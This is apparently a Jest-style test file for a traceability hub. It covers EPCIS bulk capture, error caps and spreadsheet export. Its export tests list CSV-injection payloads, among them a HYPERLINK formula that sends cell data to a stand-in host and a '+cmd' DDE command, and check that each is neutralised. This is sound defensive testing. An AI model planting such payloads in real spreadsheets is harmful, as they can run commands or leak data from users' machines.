import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { neutraliseFormula, toCsv, toXlsx } from '../platform/export/spreadsheet';
import { countJsonArrayItems } from '../platform/ingest/json-scan';
import { JourneyDocument } from './generated/graphql';
import { postCapture, sourceHeaders, syntheticDocument, traceabilityBaseUrl, traceabilityRowCounts } from './support/epcis';
import { query } from './support/hub';

/*
 * EPCIS capture as EPCIS 2.0 intends it for big documents (202 at once, the job at Location), the cap on reported
 * problems, and the hub's spreadsheet writer: the parts of "one request must never stop the hub" a user sees.
 */

type Job = Record<string, unknown> & { running: boolean; errors: { eventIndex?: number; message?: string }[] };

async function finishedJob(location: string): Promise<Job> {
  for (;;) {
    // The job is read as the source that sent the document, with the identity the gateway signs for its key.
    const response = await fetch(`${traceabilityBaseUrl()}${location}`, { headers: sourceHeaders() });
    if (!response.ok) throw new Error(`GET ${location} answered ${response.status}: ${await response.text()}`);
    const job = (await response.json()) as Job;
    if (!job.running) return job;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

function invalidDocument(events: number, tag: string): Record<string, unknown> {
  const document = syntheticDocument(events, tag);
  for (const event of (document.epcisBody as { eventList: Record<string, unknown>[] }).eventList) event.badKey = 1;
  return document;
}

describe('EPCIS capture of big and hostile documents', () => {
  it('with Prefer: respond-async, answers 202 at once with the job running, and the job at Location ends with the counts', async () => {
    const answer = await postCapture(syntheticDocument(20, '8101'), { headers: { prefer: 'respond-async' } });
    expect(answer.status).toBe(202);
    expect(answer.body).toMatchObject({ running: true, finishedAt: null });
    expect(answer.location).toMatch(/^\/epcis\/capture\/[0-9a-f-]{36}$/);
    expect(await finishedJob(answer.location!)).toMatchObject({ running: false, success: true, eventCount: 20, inserted: 20, rejected: 0, errors: [] });
  });

  it('reads a 2 MB document of 4,000 invalid events off the event loop: queries are answered meanwhile, and its job lists the first 100', async () => {
    const countsBefore = await traceabilityRowCounts();
    const document = JSON.stringify(invalidDocument(4_000, '8102'));
    expect(document.length).toBeGreaterThan(1024 * 1024);
    const answer = await postCapture(document);
    expect(answer.status).toBe(202);
    expect(answer.body.running).toBe(true);
    // Before the worker has finished, the flagship query is answered in full.
    const { household } = await query(JourneyDocument, { id: 'HH-06463-00001' });
    expect(household?.displayName).toBe('HTX Na Chi Lăng');

    const job = await finishedJob(answer.location!);
    expect(job).toMatchObject({ running: false, success: false, rejected: 4_000, inserted: 0 });
    expect(new Set(job.errors.map((error) => error.eventIndex))).toEqual(new Set(Array.from({ length: 100 }, (_, index) => index)));
    expect(String(job.errors[0].message)).toContain('"badKey" is not an EPCIS field');
    expect(await traceabilityRowCounts()).toEqual(countsBefore);
  });

  it('refuses a document of 150 invalid events with the count of all and the problems of the first 100', async () => {
    const answer = await postCapture(invalidDocument(150, '8103'));
    expect(answer.status).toBe(400);
    expect(answer.body.rejectedEvents).toBe(150);
    expect(answer.body.detail).toContain('150 of 150 events are not valid');
    expect(answer.body.detail).toContain('The problems of the first 100 of the 150 refused events are listed.');
    expect(new Set(answer.body.errors!.map((error) => error.eventIndex)).size).toBe(100);
  });

  it('counts a document’s events from its bytes, wherever the list is and whatever its strings hold', () => {
    const paths = ['epcisBody/eventList', 'epcisBody/queryResults/resultsBody/eventList'];
    const count = (json: string) => countJsonArrayItems(Buffer.from(json), paths);
    expect(count('{"epcisBody":{"eventList":[]}}')).toBe(0);
    expect(count('{"other":{"eventList":[1,2]},"epcisBody":{"note":"a \\" , [ { ","eventList":[{"eventList":[1,2,3]}, "x,]" , 3]}}')).toBe(3);
    expect(count('{"epcisBody":{"queryResults":{"resultsBody":{"eventList":[{},{}]}}}}')).toBe(2);
    expect(count(JSON.stringify(syntheticDocument(1234, '8104')))).toBe(1234);
  });
});

describe('spreadsheets the hub writes', () => {
  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Xem")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3', '\t=1', '\r=1'];

  it('writes formula-like text behind an apostrophe in CSV, and numbers as they are', () => {
    const csv = toCsv(['Tên', 'Số lượng'], [...hostile.map((text) => [text, 1]), ['-12.5', -12.5]]);
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(csv.subarray(3).toString('utf8')) as string[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual([...hostile.map((text) => `'${text}`), '-12.5']);
    expect(neutraliseFormula('HTX Vải thiều')).toBe('HTX Vải thiều');
  });

  it('writes them as text cells in XLSX, never as formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx('Báo cáo', ['Tên'], hostile.map((text) => [text]))) as never);
    const values = workbook.worksheets[0].getColumn(1).values.slice(2);
    // XML turns a carriage return into a line feed when read back; what matters is the apostrophe before it.
    const lineFeeds = (text: unknown) => String(text).replace(/\r/g, '\n');
    expect(values.map(lineFeeds)).toEqual(hostile.map((text) => lineFeeds(`'${text}`)));
  });
});
